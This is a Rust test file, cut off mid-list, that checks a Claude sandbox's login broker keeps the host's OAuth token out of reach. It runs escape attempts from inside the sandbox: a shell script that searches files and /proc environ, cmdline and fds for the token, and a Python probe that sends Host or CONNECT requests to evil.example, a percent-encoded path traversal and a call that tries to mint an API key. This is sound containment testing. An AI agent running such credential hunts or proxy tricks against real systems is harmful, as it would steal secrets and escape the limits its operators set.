//! The login broker (`--login-broker`, `proxy::broker`): the OAuth login stays on the
//! host. The real claude (both versions) holds a conversation with a Bash tool call in
//! allowlist and none mode with a stand-in login, against the lab's mock playing
//! `api.anthropic.com` behind TLS (`MockApi::start_oauth_live`, reached by the broker
//! through `CLAUDEBOX_TEST_BROKER_UPSTREAM_PROXY` and trusting its CA through
//! `CLAUDEBOX_TEST_BROKER_UPSTREAM_CA`): every request the mock gets carries the host's
//! real token, none the stand-in. Attacks from inside (with `--exec`): find the real token
//! anywhere the agent can read, use the stand-in from the host or another sandbox, make
//! the broker go to a host of the agent's choice. Each with its control: without the
//! broker the real token is right there inside; the real token is accepted upstream; a
//! sandbox's own stand-in works through its own broker.

use std::fs;
use std::path::{Path, PathBuf};
use std::process::Output;
use std::time::Duration;

use serde_json::{json, Value};

use crate::BIN;
use lab::agent::{self, Claude, MockApi};
use lab::World;

mod dumps;
mod helper_cwd;
mod lifetimes;
mod refusals;

/// The host's live login: the mock takes the access token as issued.
const REAL_ACCESS: &str = "sk-ant-oat01-lab-real-access-token-X7Q9";
const REAL_REFRESH: &str = "sk-ant-ort01-lab-real-refresh-token-K3M5";
const LIMIT: Duration = Duration::from_secs(120);

fn real_login() -> Value {
    json!({"claudeAiOauth": {
        "accessToken": REAL_ACCESS,
        "refreshToken": REAL_REFRESH,
        "expiresAt": 4_102_444_800_000u64,
        "scopes": ["user:inference", "user:profile", "user:sessions:claude_code"],
        "subscriptionType": "max",
        "rateLimitTier": "default_claude_max_20x",
    }})
}

/// A world with the host logged in (the real login above), a trusted project, and a
/// mock that knows the login.
fn setup(w: &World, script: &Value) -> (PathBuf, MockApi) {
    let p = w.dir("proj");
    let mock = MockApi::start_oauth_live(script, REAL_REFRESH, REAL_ACCESS);
    log_in(w, &p, &real_login());
    (p, mock)
}

/// The host logged in with `login` (its `.credentials.json`), and project `p` trusted in
/// a `.claude.json` that approves no API key.
fn log_in(w: &World, p: &Path, login: &Value) {
    fs::write(
        w.home().join(".claude/.credentials.json"),
        login.to_string(),
    )
    .unwrap();
    let mut seed = agent::claude_json_seed(&[p]);
    seed.as_object_mut()
        .unwrap()
        .remove("customApiKeyResponses");
    fs::write(w.home().join(".claude.json"), seed.to_string()).unwrap();
}

/// The options that choose network `mode` with the broker: `--login-broker`, or for
/// "default" no flag at all (the broker is the default) in open mode.
fn broker_args(mode: &str) -> Vec<&str> {
    match mode {
        "default" => vec!["--network", "open"],
        _ => vec!["--login-broker", "--network", mode],
    }
}

/// How a test launches claudebox: [`run`], or [`run_with_key`] for an API-key user.
type Run = fn(&World, &Path, &MockApi, &[&str]) -> Output;

/// What sends the broker's upstream to the mock.
fn upstream_env(mock: &MockApi) -> Vec<(String, String)> {
    vec![
        (
            "CLAUDEBOX_TEST_BROKER_UPSTREAM_PROXY".into(),
            mock.base_url().trim_start_matches("http://").to_string(),
        ),
        (
            "CLAUDEBOX_TEST_BROKER_UPSTREAM_CA".into(),
            mock.ca_cert().to_string_lossy().into_owned(),
        ),
        ("DISABLE_AUTOUPDATER".into(), "1".into()),
    ]
}

fn run(w: &World, p: &Path, mock: &MockApi, args: &[&str]) -> Output {
    let mut cmd = w.cmd(p);
    cmd.envs(upstream_env(mock)).args(args);
    agent::output_within(&mut cmd, LIMIT).unwrap_or_else(|e| {
        let seen: Vec<String> = mock
            .log()
            .iter()
            .map(|r| format!("{} {} {} {}", r["method"], r["host"], r["path"], r["kind"]))
            .collect();
        panic!("{e}\nthe mock saw:\n{}", seen.join("\n"))
    })
}

/// Every bearer the mock saw, as its redacted form (length and last 4 characters).
fn bearers(mock: &MockApi) -> Vec<String> {
    mock.requests()
        .iter()
        .filter_map(|r| r["headers"]["authorization"].as_str().map(str::to_string))
        .collect()
}

fn tail4(s: &str) -> String {
    format!("'{}'", &s[s.len() - 4..])
}

#[test]
fn claude_talks_and_runs_tools_with_the_login_kept_outside() {
    let _g = lab::busy();
    for c in agent::claude_versions() {
        // "default": no flag, open mode (the broker is the default).
        for mode in ["none", "allowlist", "open", "default"] {
            conversation(&c, mode);
        }
    }
}

/// The mock's script of a conversation: one Bash call (it writes `marker`), then the
/// final answer `done`.
fn tool_call_then(done: &str) -> Value {
    json!([
        {"bash": {"command": "echo tool-ran > marker", "description": "mark"}},
        done
    ])
}

/// Has claude `c` hold the conversation of [`tool_call_then`]`(done)` in network `mode`
/// with the broker, launched by `run` (or `run_with_key`, an API-key user), and asserts
/// that it answered `done` and that its Bash call ran.
fn talk(c: &Claude, w: &World, p: &Path, mock: &MockApi, run: Run, mode: &str, done: &str) {
    let mut args = broker_args(mode);
    args.extend(["-p", "hello", "--allowedTools", "Bash"]);
    let o = run(w, p, mock, &args);
    let out = agent::ok_run(c, &o, mock);
    assert!(
        out.contains(done),
        "[{} {mode}] no final answer: {out}\n{}",
        c.label,
        lab::stderr(&o)
    );
    assert_eq!(
        fs::read_to_string(p.join("marker")).unwrap_or_default(),
        "tool-ran\n",
        "[{} {mode}] the Bash tool ran",
        c.label
    );
}

fn conversation(c: &Claude, mode: &str) {
    let w = agent::world_with(BIN, c);
    let (p, mock) = setup(&w, &tool_call_then("broker says done"));
    talk(c, &w, &p, &mock, run, mode, "broker says done");
    let conv = mock.conversation(0);
    assert!(conv.len() >= 2, "[{} {mode}] {conv:?}", c.label);
    for r in &conv {
        assert_eq!(r["host"], "api.anthropic.com", "[{} {mode}]", c.label);
    }
    let seen = bearers(&mock);
    assert!(!seen.is_empty());
    for b in &seen {
        assert!(
            b.contains(&tail4(REAL_ACCESS)),
            "[{} {mode}] a request without the host's token: {b} (all: {seen:?})",
            c.label
        );
    }
    // Claude acted as the subscriber: it asked for the account's profile, and the
    // broker served it.
    assert!(
        mock.requests().iter().any(|r| r["kind"] == "oauth_profile"),
        "[{} {mode}] no profile call",
        c.label
    );
    // The host's login is as it was: nothing inside refreshed or rewrote it.
    let host: Value = serde_json::from_str(
        &fs::read_to_string(w.home().join(".claude/.credentials.json")).unwrap(),
    )
    .unwrap();
    assert_eq!(host, real_login(), "[{} {mode}]", c.label);
    assert!(mock.refreshes().is_empty(), "[{} {mode}]", c.label);
    // Every call claude made with its login was lent (`LENT_PATHS`, matched by whole
    // segments): none of the broker's refusals is in the denied log.
    let log = refusals::denied_log(&w);
    let refused: Vec<&str> = log.lines().filter(|l| l.contains("is not lent")).collect();
    assert!(
        refused.is_empty(),
        "[{} {mode}] refused: {refused:?}",
        c.label
    );
}

/// Looks for `needle` everywhere the agent can read: every file under the home, the login
/// directory, /tmp, /run and /etc, every process's environment, command line and open
/// files; prints `FOUND <where>` for each hit, then `SEARCH-DONE`.
fn search_script(needle: &str) -> String {
    // In two halves, so that the script's own command line does not hold the needle.
    let (a, b) = needle.split_at(needle.len() / 2);
    format!(
        r#"a='{a}'; n="$a"'{b}'
for d in "$HOME" "$CLAUDE_SECURESTORAGE_CONFIG_DIR" /tmp /run /etc "$PWD"; do
  grep -rlsF -- "$n" "$d" 2>/dev/null | sed 's/^/FOUND file /'
done
for f in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do
  grep -qsaF -- "$n" "$f" && echo "FOUND $f"
done
for f in /proc/[0-9]*/fd/*; do
  [ -f "$f" ] && grep -qsaF -- "$n" "$f" && echo "FOUND $f"
done
env | grep -qF -- "$n" && echo "FOUND env"
ls /proc | grep -q . && echo "PROCS $(ls -d /proc/[0-9]* | wc -l)"
grep -ls claudebox-proxy /proc/[0-9]*/comm | sed 's/^/FOUND proxy /'
echo SEARCH-DONE"#
    )
}

/// Runs `script` (a [`search_script`]) inside with the options `flags`, launched by `run`
/// (or `run_with_key`, an API-key user); its output.
fn search(w: &World, p: &Path, mock: &MockApi, run: Run, flags: &[&str], script: &str) -> Output {
    let mut args = flags.to_vec();
    args.extend(["--exec", "sh", "-c", script]);
    run(w, p, mock, &args)
}

/// Whether a search found its needle, or did not run (which counts as found: nothing
/// shows it was not).
fn found(o: &Output) -> bool {
    let out = lab::stdout(o);
    !out.contains("SEARCH-DONE") || out.contains("FOUND")
}

/// Asserts that a search ran and found nothing; its stdout.
fn found_nothing(o: &Output, what: &str) -> String {
    let out = lab::stdout(o);
    assert!(
        out.contains("SEARCH-DONE"),
        "[{what}] the search did not run: {out}\n{}",
        lab::stderr(o)
    );
    assert!(!out.contains("FOUND"), "[{what}] readable inside:\n{out}");
    out
}

/// Asserts that a search (the control, without the broker) ran and found its needle.
fn found_it(o: &Output) {
    let out = lab::stdout(o);
    assert!(
        out.contains("SEARCH-DONE") && out.contains("FOUND"),
        "control: the search finds nothing without the broker:\n{out}\n{}",
        lab::stderr(o)
    );
}

#[test]
fn the_real_token_is_nowhere_inside() {
    let w = World::new(BIN);
    let (p, mock) = setup(&w, &json!([]));
    // "default": no flag (the broker is the default), open mode.
    for mode in ["none", "allowlist", "open", "default"] {
        for needle in [REAL_ACCESS, REAL_REFRESH] {
            let o = search(
                &w,
                &p,
                &mock,
                run,
                &broker_args(mode),
                &search_script(needle),
            );
            found_nothing(&o, &format!("{mode}: the real token"));
        }
    }
    // Control: without the broker the same search finds the token (the login is bound in).
    let no_broker = ["--no-login-broker", "--network", "none"];
    let o = search(&w, &p, &mock, run, &no_broker, &search_script(REAL_ACCESS));
    found_it(&o);
    assert!(lab::stdout(&o).contains("FOUND file"));
}

/// Python inside: requests through the proxy `HTTPS_PROXY` names (127.0.0.1:3128, or a
/// free port on the shared loopback in open mode), TLS to
/// api.anthropic.com trusting `NODE_EXTRA_CA_CERTS`. Prints one line per attempt:
/// `<name> <status or error>`, and `STAND-IN <token>` (the sandbox's own).
const PROBE: &str = r#"
import http.client, json, os, socket, ssl, sys
login = json.load(open(os.path.join(os.environ["CLAUDE_SECURESTORAGE_CONFIG_DIR"], ".credentials.json")))
own = login["claudeAiOauth"]["accessToken"]
print("STAND-IN", own)
other = sys.argv[1] if len(sys.argv) > 1 else own
port = int(os.environ["HTTPS_PROXY"].rsplit(":", 1)[1])
print("PORT", port)
# Open mode: the proxy serves only requests with the secret its URL carries.
import base64, urllib.parse
u = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
PA = {"Proxy-Authorization": "Basic " + base64.b64encode(("%s:%s" % (u.username, u.password)).encode()).decode()} if u.username else {}
ctx = ssl.create_default_context(cafile=os.environ["NODE_EXTRA_CA_CERTS"])
def post(name, token, host=None, path="/v1/messages/count_tokens"):
    try:
        c = http.client.HTTPSConnection("127.0.0.1", port, context=ctx, timeout=20)
        c.set_tunnel("api.anthropic.com", 443, headers=PA)
        c.putrequest("POST", path, skip_host=host is not None)
        if host is not None:
            c.putheader("Host", host)
        body = b"{}"
        c.putheader("Authorization", "Bearer " + token)
        c.putheader("Content-Type", "application/json")
        c.putheader("Content-Length", str(len(body)))
        c.endheaders(body)
        print(name, c.getresponse().status)
    except Exception as e:
        print(name, "error", type(e).__name__)
def connect(name, target):
    try:
        s = socket.create_connection(("127.0.0.1", port), timeout=20)
        s.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (target, target, "".join("%s: %s\r\n" % kv for kv in PA.items()))).encode())
        print(name, s.recv(64).split(b" ")[1].decode())
    except Exception as e:
        print(name, "error", type(e).__name__)
def raw(name, data):
    try:
        c = http.client.HTTPSConnection("127.0.0.1", port, context=ctx, timeout=20)
        c.set_tunnel("api.anthropic.com", 443, headers=PA)
        c.connect()
        c.sock.sendall(data)
        r = http.client.HTTPResponse(c.sock)
        r.begin()
        print(name, r.status)
    except Exception as e:
        print(name, "error", type(e).__name__)
auth = ("Authorization: Bearer " + own + "\r\n").encode()
raw("huge", b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\n" + auth + b"Content-Length: 999999999999\r\n\r\n")
raw("chunked", b"POST /v1/messages HTTP/1.1\r\nHost: api.anthropic.com\r\n" + auth + b"Transfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n")
raw("absolute", b"GET https://evil.example/ HTTP/1.1\r\nHost: api.anthropic.com\r\n" + auth + b"\r\n")
raw("garbage", b"\x00\x01 not http at all\r\n\r\n")
raw("head-flood", b"GET / HTTP/1.1\r\n" + b"X-A: " + b"a" * 100000 + b"\r\n\r\n")
post("own", own)
post("other", other)
post("mint", own, None, "/api/oauth/claude_cli/create_api_key")
# Paths sharing a lent row's prefix but not its whole segments (issue 34), and a dot
# segment hidden by percent-encoding.
post("hellox", own, None, "/api/hellox")
post("messages-x", own, None, "/v1/messages_anything")
post("org-keys", own, None, "/api/oauth/organizations/x/api-keys")
post("dotdot", own, None, "/v1/messages/%2e%2e/%2e%2e/v1/oauth/token")
post("host-evil", own, "evil.example")
connect("connect-mock", sys.argv[2] if len(sys.argv) > 2 else "127.0.0.1:9")
connect("connect-evil", "evil.example:443")
"#;

fn probe(w: &World, p: &Path, mock: &MockApi, other: &str) -> (String, Vec<(String, String)>) {
    probe_in(w, p, mock, other, "none")
}

fn probe_in(
    w: &World,
    p: &Path,
    mock: &MockApi,
    other: &str,
    mode: &str,
) -> (String, Vec<(String, String)>) {
    let port = mock.base_url().rsplit(':').next().unwrap().to_string();
    let target = format!("127.0.0.1:{port}");
    let mut args = broker_args(mode);
    args.extend(["--exec", "python3", "-c", PROBE, other, &target]);
    let o = run(w, p, mock, &args);
    let out = lab::stdout(&o);
    assert!(
        o.status.success(),
        "the probe failed: {out}\n{}",
        lab::stderr(&o)
    );
    let mut stand_in = String::new();
    let mut results = Vec::new();
    for l in out.lines() {
        let (k, v) = l.split_once(' ').unwrap_or((l, ""));
        if k == "STAND-IN" {
            stand_in = v.to_string();
        } else {
            results.push((k.to_string(), v.to_string()));
        }
    }
    (stand_in, results)
}

fn result<'a>(r: &'a [(String, String)], name: &str) -> &'a str {
    r.iter()
        .find(|(k, _)| k == name)
        .map(|(_, v)| v.as_str())
        .unwrap_or_else(|| panic!("no {name} in {r:?}"))
}

/// Asserts that each of a probe's attempts got its answer: (attempt, status).
fn expect(r: &[(String, String)], answers: &[(&str, &str)]) {
    for (name, status) in answers {
        assert_eq!(result(r, name), *status, "{name}: {r:?}");
    }
}

/// Sandbox A's stand-in `a` elsewhere: in another sandbox (network `mode`), whose broker
/// does not know it, and from the host (or anyone the agent sends it to): refused
/// upstream. Control: the real token, as an agent would have it without the broker, works.
fn stand_in_elsewhere(w: &World, p: &Path, mock: &MockApi, a: &str, mode: &str) {
    let (b, r) = probe_in(w, p, mock, a, mode);
    assert_ne!(a, b, "each sandbox has its own stand-in");
    expect(&r, &[("own", "200"), ("other", "401")]);
    assert_eq!(from_host(mock, a), "401");
    assert_eq!(from_host(mock, REAL_ACCESS), "200");
}

/// Status of `POST /v1/messages/count_tokens` sent from the host straight to the mock's
/// `api.anthropic.com` (through its HTTPS proxy) with `token`.
fn from_host(mock: &MockApi, token: &str) -> String {
    from_host_to(mock, token, "/v1/messages/count_tokens")
}

/// Status of `POST path` sent from the host straight to the mock with `token`.
fn from_host_to(mock: &MockApi, token: &str, path: &str) -> String {
    let port = mock.base_url().rsplit(':').next().unwrap().to_string();
    let code = r#"
import http.client, ssl, sys
ctx = ssl.create_default_context(cafile=sys.argv[2])
c = http.client.HTTPSConnection("127.0.0.1", int(sys.argv[1]), context=ctx, timeout=20)
c.set_tunnel("api.anthropic.com", 443)
c.request("POST", sys.argv[4], body=b"{}",
          headers={"Authorization": "Bearer " + sys.argv[3], "Content-Type": "application/json"})
print(c.getresponse().status)
"#;
    let o = std::process::Command::new("python3")
        .args(["-c", code, &port])
        .arg(mock.ca_cert())
        .arg(token)
        .arg(path)
        .output()
        .unwrap();
    lab::stdout(&o).trim().to_string()
}

#[test]
fn the_stand_in_is_worthless_outside_its_sandbox_and_the_broker_goes_nowhere_else() {
    let w = World::new(BIN);
    let (p, mock) = setup(&w, &json!([]));
    // Sandbox A: its own stand-in works through its broker (the control for the rest).
    let (a, r) = probe(&w, &p, &mock, "");
    assert!(a.starts_with("sk-ant-oat01-claudebox-stand-in-"), "{a}");
    expect(
        &r,
        &[
            ("own", "200"),
            // The agent picks the host: refused by the broker (Host), or by the proxy
            // (CONNECT elsewhere in none mode, the mock's own port included).
            ("host-evil", "421"),
            ("connect-mock", "403"),
            ("connect-evil", "403"),
            // A call that would mint a credential from the lent login: refused by the broker.
            ("mint", "403"),
            // Paths matched by whole segments only (the mock answers such a path 404 when
            // it comes with the real token: `from_host_to`, below).
            ("hellox", "403"),
            ("messages-x", "403"),
            ("org-keys", "403"),
            ("dotdot", "403"),
            // Huge and malformed requests: refused by the broker, which goes on serving.
            ("huge", "413"),
            ("chunked", "411"),
            ("absolute", "400"),
            ("garbage", "400"),
        ],
    );
    // A head over 64 KiB: refused, or the connection dropped while it was still sent.
    let flood = result(&r, "head-flood");
    assert!(flood == "400" || flood.starts_with("error"), "{r:?}");
    // Sandbox B with A's stand-in, and the host with it.
    stand_in_elsewhere(&w, &p, &mock, &a, "none");
    // Control of the path attempts: with the real token (as a broker matching by prefix
    // sent them) they are no 403 upstream.
    for path in [
        "/api/hellox",
        "/v1/messages_anything",
        "/api/oauth/organizations/x/api-keys",
    ] {
        let got = from_host_to(&mock, REAL_ACCESS, path);
        assert!(got != "403" && !got.is_empty(), "{path}: {got}");
    }
}

/// Open mode: the proxy (on a free port of the shared loopback) lets every other host
/// through, unfiltered, and ends only api.anthropic.com in the broker, with the same
/// refusals as in the other modes.
#[test]
fn in_open_mode_the_broker_serves_api_anthropic_com_and_the_rest_goes_through() {
    let w = World::new(BIN);
    let (p, mock) = setup(&w, &json!([]));
    let (a, r) = probe_in(&w, &p, &mock, "", "open");
    assert!(a.starts_with("sk-ant-oat01-claudebox-stand-in-"), "{a}");
    let port = result(&r, "PORT");
    assert_ne!(port, "3128", "a free port, not the fixed one: {r:?}");
    expect(
        &r,
        &[
            ("own", "200"),
            // Open means unfiltered: the mock's own port is reached through the proxy.
            ("connect-mock", "200"),
            ("host-evil", "421"),
            ("mint", "403"),
            ("huge", "413"),
            ("chunked", "411"),
        ],
    );
    // Another sandbox (open mode too, on the same loopback) with A's stand-in, and the
    // host with it: refused upstream.
    stand_in_elsewhere(&w, &p, &mock, &a, "open");
}

#[test]
fn the_broker_is_refused_without_a_login_and_launches_in_every_mode() {
    let w = World::new(BIN);
    let p = w.dir("proj");
    let o = w
        .cmd(&p)
        .args(["--login-broker", "--network", "none", "--exec", "true"])
        .output()
        .unwrap();
    let err = lab::stderr(&o);
    assert!(
        !o.status.success() && err.contains("no login to keep outside"),
        "{err}"
    );
    fs::write(
        w.home().join(".claude/.credentials.json"),
        real_login().to_string(),
    )
    .unwrap();
    // With a login it launches, in every mode.
    for mode in ["none", "allowlist", "open"] {
        let o = w
            .cmd(&p)
            .args(["--login-broker", "--network", mode, "--exec", "true"])
            .output()
            .unwrap();
        assert!(o.status.success(), "[{mode}] {}", lab::stderr(&o));
    }
}

#[test]
fn dry_run_shows_the_broker_and_binds_no_login() {
    let w = World::new(BIN);
    let p = w.dir("proj");
    let creds = w.home().join(".claude/.credentials.json");
    fs::write(&creds, real_login().to_string()).unwrap();
    let o = w
        .cmd(&p)
        .args([
            "--login-broker",
            "--network",
            "none",
            "--dry-run",
            "--exec",
            "true",
        ])
        .output()
        .unwrap();
    let out = lab::stdout(&o);
    assert!(o.status.success(), "{}", lab::stderr(&o));
    assert!(out.contains("login broker: api.anthropic.com"), "{out}");
    assert!(
        out.contains("# login broker: in the proxy process"),
        "{out}"
    );
    assert!(!out.contains("# credentials sync"), "{out}");
    let bound = format!("--bind {}", creds.display());
    assert!(!out.contains(&bound), "the login is bound: {out}");
    // Control: without the broker the login is bound and synced.
    let o = w
        .cmd(&p)
        .args([
            "--no-login-broker",
            "--network",
            "none",
            "--dry-run",
            "--exec",
            "true",
        ])
        .output()
        .unwrap();
    let out = lab::stdout(&o);
    assert!(
        out.contains(&bound) && out.contains("# credentials sync"),
        "{out}"
    );
    assert!(!out.contains("login broker"), "{out}");
}

/// The login's refresh token before any refresh (live at the mock) and its access token,
/// expired.
const SEED_REFRESH: &str = "sk-ant-ort01-lab-seed-r000";
const SEED_ACCESS: &str = "sk-ant-oat01-lab-seed-expired-a000";

fn expired(access: &str, refresh: &str) -> Value {
    let mut v = real_login();
    v["claudeAiOauth"]["accessToken"] = access.into();
    v["claudeAiOauth"]["refreshToken"] = refresh.into();
    v["claudeAiOauth"]["expiresAt"] = 1000.into();
    v
}

fn host_file(w: &World) -> Value {
    serde_json::from_str(&fs::read_to_string(w.home().join(".claude/.credentials.json")).unwrap())
        .unwrap()
}

/// The host's claude, bare, logged in by the host's file, pointed at the mock.
fn host_claude(w: &World, p: &Path, mock: &MockApi) -> std::process::Command {
    let mut c = std::process::Command::new(w.bin().join("claude"));
    c.current_dir(p)
        .env_clear()
        .env("HOME", w.home())
        .env("PATH", w.path_var())
        .env("LANG", "C.UTF-8")
        .envs(mock.oauth_env(&mock.ca_cert()))
        .args(["-p", "hello"]);
    c
}

#[test]
fn the_broker_alone_refreshes_the_login_under_claudes_lock() {
    let _g = lab::heavy();
    // The versions at once, each with its own world and mock (their races are their own;
    // they mostly wait for the token endpoint's 1.5 s).
    let versions = agent::claude_versions();
    std::thread::scope(|s| {
        for c in &versions {
            s.spawn(move || refreshes_under_claudes_lock(c));
        }
    });
}

/// [`the_broker_alone_refreshes_the_login_under_claudes_lock`] with claude `c`.
fn refreshes_under_claudes_lock(c: &Claude) {
    let w = agent::world_with(BIN, c);
    let p = w.dir("proj");
    let mock = MockApi::start_oauth(&json!({"turns": [], "token_delay_ms": 1500}), SEED_REFRESH);
    let creds = w.home().join(".claude/.credentials.json");
    log_in(&w, &p, &expired(SEED_ACCESS, SEED_REFRESH));
    let ask = |mode: &str| {
        let mut args = broker_args(mode);
        args.extend(["-p", "hello"]);
        run(&w, &p, &mock, &args)
    };

    // Several token lifetimes with no claude on the host: each time the host's login
    // has expired, the broker refreshes it once, with the token it got last time.
    let mut last = SEED_REFRESH.to_string();
    for round in 1..=3u32 {
        let o = ask(if round % 2 == 0 { "allowlist" } else { "none" });
        let out = agent::ok_run(c, &o, &mock);
        assert!(
            out.contains("MOCK: the script is over."),
            "[{}] {out}",
            c.label
        );
        let n = format!("{round:04}");
        assert_eq!(
            mock.refreshes().last(),
            Some(&(last[last.len() - 4..].to_string(), Some(n.clone()))),
            "[{}] round {round}: {:?}",
            c.label,
            mock.refreshes()
        );
        assert_eq!(mock.refreshes().len(), round as usize, "[{}]", c.label);
        let host = host_file(&w);
        let o = &host["claudeAiOauth"];
        assert_eq!(
            o["accessToken"],
            format!("sk-ant-oat01-mock-a{n}"),
            "[{}]",
            c.label
        );
        assert!(o["expiresAt"].as_u64().unwrap() > 1000);
        assert_eq!(
            o["subscriptionType"], "max",
            "[{}] the rest is kept",
            c.label
        );
        last = o["refreshToken"].as_str().unwrap().to_string();
        assert!(bearers(&mock).last().unwrap().contains(&format!("'{n}'")));
        // The next lifetime: the token expires.
        let mut v = host;
        v["claudeAiOauth"]["expiresAt"] = 1000.into();
        fs::write(&creds, v.to_string()).unwrap();
    }

    // The host's claude and a sandbox find the login expired at once (the token
    // endpoint takes 1.5 s): one of them refreshes, the other uses its pair.
    // CLAUDEBOX_TEST_RACE_ROUNDS rounds (3 unless set; BENCHMARKS.md has a run of 50).
    let rounds: u64 = std::env::var("CLAUDEBOX_TEST_RACE_ROUNDS")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(3);
    for round in 0..rounds {
        let before = mock.refreshes().len();
        let mut host = host_claude(&w, &p, &mock);
        let host = std::thread::spawn(move || agent::output_within(&mut host, LIMIT));
        std::thread::sleep(Duration::from_millis(200 * (round % 2)));
        let o = ask("none");
        agent::ok_run(c, &o, &mock);
        let h = host.join().unwrap().unwrap();
        assert!(
            h.status.success(),
            "[{}] host: {}",
            c.label,
            lab::stderr(&h)
        );
        let spent = &mock.refreshes()[before..];
        assert_eq!(spent.len(), 1, "[{}] race {round}: {spent:?}", c.label);
        assert!(
            spent[0].1.is_some(),
            "[{}] race {round}: {spent:?}",
            c.label
        );
        let mut v = host_file(&w);
        v["claudeAiOauth"]["expiresAt"] = 1000.into();
        fs::write(&creds, v.to_string()).unwrap();
    }
    lab::figure!(
        "login broker refresh race, the host's claude and a sandbox ({}, as {}): the \
         token spent once in {rounds} of {rounds} rounds",
        c.label,
        if nix::unistd::geteuid().is_root() {
            "root"
        } else {
            "an ordinary user"
        }
    );
    assert!(!w.home().join(".claude/.oauth_refresh.lock").exists());

    // Control: the host's claude with its lock elsewhere (its config dir moved, the
    // login reached through a symlink): the same race spends the token twice.
    let x = w.dir("elsewhere");
    fs::copy(w.home().join(".claude.json"), x.join(".claude.json")).unwrap();
    std::os::unix::fs::symlink(&creds, x.join(".credentials.json")).unwrap();
    // A race needs both sides at the token endpoint within its 1.5 s: under a heavy
    // load the sandbox can start after the host's claude has its new pair (then one
    // spend, which shows nothing). The control shows the race *can* be lost, so it
    // tries up to five times.
    let mut spent = Vec::new();
    for attempt in 0..5 {
        let mut v = host_file(&w);
        v["claudeAiOauth"]["expiresAt"] = 1000.into();
        fs::write(&creds, v.to_string()).unwrap();
        let before = mock.refreshes().len();
        let mut host = host_claude(&w, &p, &mock);
        host.env("CLAUDE_CONFIG_DIR", &x);
        let host = std::thread::spawn(move || agent::output_within(&mut host, LIMIT));
        // The loser is logged out (the broker answers 401 and spends the dead token
        // no more); how claude reports that is not the point here.
        let mut sandbox = w.cmd(&p);
        sandbox.envs(upstream_env(&mock)).args([
            "--login-broker",
            "--network",
            "none",
            "-p",
            "hello",
        ]);
        let _ = agent::output_within(&mut sandbox, LIMIT);
        let _ = host.join().unwrap();
        spent = mock.refreshes()[before..].to_vec();
        eprintln!("[{}] control {attempt}, locks apart: {spent:?}", c.label);
        if spent.len() >= 2 && spent.iter().any(|r| r.1.is_none()) {
            break;
        }
    }
    assert!(spent.len() >= 2, "[{}] control: {spent:?}", c.label);
    assert!(
        spent.iter().any(|r| r.1.is_none()),
        "[{}] control: {spent:?}",
        c.label
    );
}

/// The attacks above as escape attempts (`escape::escape_suite` counts them): each is
/// `true` when it got what it was after. Their controls are the tests above.
pub(crate) fn attempts() -> Vec<(&'static str, bool)> {
    let w = World::new(BIN);
    let (p, mock) = setup(&w, &json!([]));
    let mut v = Vec::new();
    for (name, mode) in [
        (
            "login broker: the real OAuth tokens anywhere inside (files, environ, cmdline, fds), none mode",
            "none",
        ),
        (
            "login broker: the real OAuth tokens anywhere inside (files, environ, cmdline, fds), allowlist mode",
            "allowlist",
        ),
        (
            "login broker: the real OAuth tokens anywhere inside (files, environ, cmdline, fds), open mode",
            "open",
        ),
    ] {
        let got = [REAL_ACCESS, REAL_REFRESH].iter().any(|needle| {
            found(&search(&w, &p, &mock, run, &broker_args(mode), &search_script(needle)))
        });
        v.push((name, got));
    }
    let (a, r) = probe(&w, &p, &mock, "");
    let (_, r2) = probe(&w, &p, &mock, &a);
    // An attempt got what it was after when the broker answered it with anything but its
    // refusal; no answer at all (a reset or a timeout, as under a heavy load) reached
    // nothing, and is shown rather than counted.
    let refused = |r: &[(String, String)], k: &str, code: &str| {
        let got = result(r, k);
        if got != code {
            eprintln!("login broker attempt {k}: {got} (the refusal is {code}); all: {r:?}");
        }
        got == code || got.starts_with("error")
    };
    v.push((
        "login broker: a sandbox's stand-in used through another sandbox's broker",
        !refused(&r2, "other", "401"),
    ));
    v.push((
        "login broker: a sandbox's stand-in used from the host",
        from_host(&mock, &a) != "401",
    ));
    v.push((
        "login broker: a Host of the agent's choosing in the brokered tunnel",
        !refused(&r, "host-evil", "421"),
    ));
    v.push((
        "login broker: CONNECT to the upstream's own address in none mode",
        !refused(&r, "connect-mock", "403"),
    ));
    v.push((
        "login broker: CONNECT to another host in none mode",
        !refused(&r, "connect-evil", "403"),
    ));
    let (_, r3) = probe_in(&w, &p, &mock, &a, "open");
    v.push((
        "login broker: a sandbox's stand-in used through an open-mode sandbox's broker on the shared loopback",
        !refused(&r3, "other", "401"),
    ));
    let wk = World::new(BIN);
    let (pk, mk) = setup_api_key(&wk, &json!([]));
    for (name, mode) in [
        ("login broker: an API-key user's key anywhere inside (files, environ, cmdline, fds), none mode", "none"),
        ("login broker: an API-key user's key anywhere inside (files, environ, cmdline, fds), allowlist mode", "allowlist"),
        ("login broker: an API-key user's key anywhere inside (files, environ, cmdline, fds), open mode", "open"),
    ] {
        let o = search(&wk, &pk, &mk, run_with_key, &broker_args(mode), &search_script(REAL_KEY));
        v.push((name, found(&o)));
    }
    let wh = World::new(BIN);
    let (ph, mh, _) = setup_helper(&wh, &json!([]));
    for (name, mode) in [
        ("login broker: an apiKeyHelper user's key anywhere inside (settings, files, environ, cmdline, fds), none mode", "none"),
        ("login broker: an apiKeyHelper user's key anywhere inside (settings, files, environ, cmdline, fds), allowlist mode", "allowlist"),
        ("login broker: an apiKeyHelper user's key anywhere inside (settings, files, environ, cmdline, fds), open mode", "open"),
    ] {
        let script = search_script(HELPER_KEY);
        let o = run(
            &wh,
            &ph,
            &mh,
            &["--login-broker", "--network", mode, "--exec", "sh", "-c", &script],
        );
        let out = lab::stdout(&o);
        v.push((name, !out.contains("SEARCH-DONE") || out.contains("FOUND")));
    }
    v.push((
        "login broker: a request body over the cap",
        !refused(&r, "huge", "413"),
    ));
    v.push((
        "login broker: a chunked request (no length to check)",
        !refused(&r, "chunked", "411"),
    ));
    v.push((
        "login broker: an absolute-form target naming another host",
        !refused(&r, "absolute", "400"),
    ));
    v.push((
        "login broker: mint an API key with the lent login",
        !refused(&r, "mint", "403"),
    ));
    for (name, k) in [
        (
            "login broker: the login lent to /api/hellox (a lent path's prefix, not its segments)",
            "hellox",
        ),
        (
            "login broker: the login lent to /v1/messages_anything",
            "messages-x",
        ),
        (
